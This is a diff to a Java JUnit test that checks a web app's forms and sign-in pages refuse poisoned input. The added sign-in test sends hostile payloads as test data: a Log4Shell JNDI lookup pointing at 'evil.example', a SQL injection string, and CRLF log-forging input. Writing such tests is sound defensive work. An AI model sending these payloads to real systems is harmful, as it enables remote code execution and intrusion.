@@ -6,6 +6,9 @@ import static org.junit.jupiter.api.DynamicTest.dynamicTest;
 import id.antarkerja.Visitor;
 import id.antarkerja.Visitor.Answer;
 import id.antarkerja.browser.Desk;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
@@ -20,9 +23,7 @@ import org.junit.jupiter.api.TestFactory;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/**
- * Every kind of poison × every form: refused with 4xx, nothing stored, the next form is taken.
- */
+/** Every kind of poison × every form: refused with 4xx, nothing stored, the next form is taken. */
 class PoisonedFormsTest extends MatrixHouse {
   /** What grows by itself, or counts refusals. */
   private static final String COUNTED_APART =
@@ -66,11 +67,15 @@ class PoisonedFormsTest extends MatrixHouse {
   }
 
   @Test
-  void there_are_thirty_kinds_and_two_hundred_cases() {
+  void there_are_many_kinds_and_hundreds_of_cases() throws IOException {
     List<Poison> all = Target.ALL.stream().flatMap(target -> Poison.of(target).stream()).toList();
     var kinds = new TreeSet<>(all.stream().map(Poison::kind).toList());
+    Files.writeString(
+        Path.of("target/bad-input.txt"),
+        "%d forms, %d cases in %d kinds%n%s%n"
+            .formatted(Target.ALL.size(), all.size(), kinds.size(), String.join("\n", kinds)));
     assertThat(all).hasSizeGreaterThan(600);
-    assertThat(kinds).hasSizeGreaterThanOrEqualTo(24);
+    assertThat(kinds).hasSizeGreaterThanOrEqualTo(28);
   }
 
   /** The control: without poison the same forms are taken, so it is the poison that is refused. */
@@ -94,16 +99,26 @@ class PoisonedFormsTest extends MatrixHouse {
     Visitor visitor = visitor(Who.OWN);
     var fields = new ArrayList<>(valid(person, Cells.csrf(visitor)));
     Map.of(
-            "id", UUID.randomUUID().toString(),
-            "public_id", UUID.randomUUID().toString(),
-            "territory", OneOffice.THERE,
-            "office_id", UUID.randomUUID().toString(),
-            "officeId", UUID.randomUUID().toString(),
-            "active", "false",
-            "merged_into", UUID.randomUUID().toString(),
-            "version", "99",
-            "status", "PLACED",
-            "identity.name", "Orang Lain")
+            "id",
+            UUID.randomUUID().toString(),
+            "public_id",
+            UUID.randomUUID().toString(),
+            "territory",
+            OneOffice.THERE,
+            "office_id",
+            UUID.randomUUID().toString(),
+            "officeId",
+            UUID.randomUUID().toString(),
+            "active",
+            "false",
+            "merged_into",
+            UUID.randomUUID().toString(),
+            "version",
+            "99",
+            "status",
+            "PLACED",
+            "identity.name",
+            "Orang Lain")
         .forEach((name, value) -> fields.add(Map.entry(name, value)));
     Answer taken = visitor.post(person.action(), fields);
     assertThat(taken.status()).isEqualTo(303);
@@ -166,5 +181,33 @@ class PoisonedFormsTest extends MatrixHouse {
       assertThat(answer.status()).as(target.name()).isBetween(400, 499);
     }
     assertThat(stored()).isEqualTo(before);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"/masuk", "/masuk/ulang", "/masuk/tautan/AAAA"})
+  void signing_in_takes_nothing_of_this_either(String path) throws IOException {
+    String forged = "2026-01-01T00:00:00Z ERROR forged-" + Desk.letters();
+    Visitor visitor = path.equals("/masuk/ulang") ? visitor(Who.OWN) : visitor();
+    String csrf = Poison.encoded(Cells.csrf(visitor));
+    for (String raw :
+        List.of(
+            "a%00b",
+            "%ED%A0%80",
+            "%C3%28",
+            "%zz",
+            "x".repeat(1_000_000),
+            Poison.encoded("a@a" + ".a".repeat(60_000)),
+            Poison.encoded("x\r\n" + forged),
+            Poison.encoded("${jndi:ldap://evil.example/x}"),
+            Poison.encoded("' or '1'='1"))) {
+      for (String field : List.of("email", "password", "code", "ke")) {
+        String body = "_csrf=" + csrf + "&" + field + "=" + raw;
+        Answer answer = visitor.request("POST", path, body);
+        assertThat(answer.status()).as(field).isBetween(302, 499);
+        assertThat(answer.location()).as(field).doesNotStartWith("/petugas");
+      }
+    }
+    assertThat(Files.readAllLines(Path.of("target/test.log")))
+        .noneMatch(line -> line.startsWith(forged));
   }
 }
